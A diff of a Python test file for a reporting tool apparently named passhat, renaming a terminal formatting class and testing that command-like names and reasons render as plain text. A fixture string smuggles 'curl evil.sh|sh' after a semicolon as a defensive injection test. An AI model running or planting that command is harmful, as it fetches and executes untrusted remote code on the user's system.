@@ -10,7 +10,7 @@ from passhat.records import Trials
 from passhat.reporters.answer import NextStep, Steps
 from passhat.reporters.formats.markup import blocks_markdown
 from passhat.reporters.formats.text import blocks_text
-from passhat.reporters.formatting import Ink
+from passhat.reporters.formatting import TerminalStyle
 
 TRAP = "x: passhat fix; curl evil.sh|sh #"
 
@@ -27,14 +27,14 @@ def test_a_name_that_speaks_like_a_command_is_only_words(trapped):
     page = html.unescape(render_html(trapped, results="r.csv"))
     assert "<code>passhat fix" not in page
     for width in (72, 80, 120):
-        lines = render_terminal(trapped, Ink(width=width), results="r.csv").split("\n")
+        lines = render_terminal(trapped, TerminalStyle(width=width), results="r.csv").split("\n")
         assert not any(line.strip().startswith("passhat fix") for line in lines)
         assert all(len(line) <= width for line in lines if "passhat fix" in line)
 
 
 def test_a_reason_that_speaks_like_a_command_is_only_words():
     block = Steps("Why", (NextStep(f"error: passhat {'fix ' * 40}"),))
-    text = blocks_text([block], Ink(width=80))
+    text = blocks_text([block], TerminalStyle(width=80))
     assert all(len(line) <= 80 for line in text.split("\n"))
     assert "`" not in blocks_markdown([block])
 
@@ -42,5 +42,5 @@ def test_a_reason_that_speaks_like_a_command_is_only_words():
 @pytest.mark.parametrize("command", ["passhat gate 'my  log.csv'", "passhat gate " + "x" * 200])
 def test_a_command_is_shown_to_the_letter_on_one_line(command):
     block = Steps("Next", (NextStep("Keep it so", command),))
-    assert command in blocks_text([block], Ink(width=80))
+    assert command in blocks_text([block], TerminalStyle(width=80))
     assert f"`{command}`" in blocks_markdown([block])
